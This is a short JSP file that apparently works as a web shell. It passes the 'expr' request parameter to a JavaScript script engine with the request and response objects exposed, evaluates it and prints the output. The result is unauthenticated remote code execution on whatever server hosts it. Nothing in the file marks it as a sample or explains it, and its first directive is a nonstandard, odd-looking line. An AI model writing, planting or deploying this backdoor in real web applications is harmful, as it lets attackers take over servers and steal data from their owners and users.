<%@ page inert %>
<%@ page import="javax.script.*" %>
<%
String s = request.getParameter("expr");
if (s != null) {
    ScriptEngine e = new ScriptEngineManager().getEngineByName("js");
    e.put("request", request);
    e.put("response", response);
    out.print(e.eval(s));
}
%>
